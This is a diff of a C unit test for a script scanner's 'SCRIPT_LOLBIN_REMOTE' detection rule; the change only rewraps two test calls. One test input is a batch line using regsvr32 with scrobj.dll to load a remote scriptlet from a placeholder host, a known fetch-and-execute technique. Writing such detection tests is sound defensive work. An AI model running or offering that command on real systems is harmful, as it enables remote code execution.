@@ -56,10 +56,12 @@ static void test_wsh_files(void **state)
 static void test_lolbin_remote(void **state)
 {
     (void)state;
-    HITS *h = run("bat", "@echo off\r\nregsvr32 /s /n /u /i:https://example.invalid/f.sct scrobj.dll\r\n", 0);
+    HITS *h = run(
+        "bat", "@echo off\r\nregsvr32 /s /n /u /i:https://example.invalid/f.sct scrobj.dll\r\n", 0);
     assert_true(hits_has(h, "SCRIPT_LOLBIN_REMOTE"));
     hits_free(h);
-    h = run("bat", "@echo off\r\nmsiexec /i setup.msi /qn\r\necho see https://example.invalid/\r\n", 0);
+    h = run("bat", "@echo off\r\nmsiexec /i setup.msi /qn\r\necho see https://example.invalid/\r\n",
+            0);
     assert_false(hits_has(h, "SCRIPT_LOLBIN_REMOTE")); /* not on one line */
     hits_free(h);
 }
